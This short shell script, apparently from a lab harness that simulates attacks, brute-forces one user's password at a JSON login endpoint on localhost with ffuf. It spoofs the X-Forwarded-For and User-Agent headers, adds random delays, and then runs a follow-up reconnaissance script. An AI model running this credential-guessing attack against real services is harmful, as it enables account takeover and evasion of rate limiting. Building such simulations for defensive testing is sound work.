#!/bin/sh
# Guesses one user's password at the JSON log-in until it is found, then looks round.
# PORT ADDRESS DIR USER PASSWORD USERID
# With ffuf: hydra 9.4 takes a form's 401 for a missing module and tries the same word again.
set -eu
here=$(dirname "$0")
python3 "$here/wordlists.py" passwords "$5" > "$3/passwords.txt"
timeout 240 ffuf -s -w "$3/passwords.txt" -u "http://127.0.0.1:$1/api/v1/auth/login" -X POST \
    -H "Content-Type: application/json" -d "{\"user\":\"$4\",\"password\":\"FUZZ\"}" -t 3 -p 0.1-0.5 -mc 200 \
    -H "X-Forwarded-For: $2" -H "User-Agent: python-requests/2.28.2" > "$3/ffuf.txt"
exec "$here/look-round.sh" "$1" "$2" "$4" "$5" "$6"
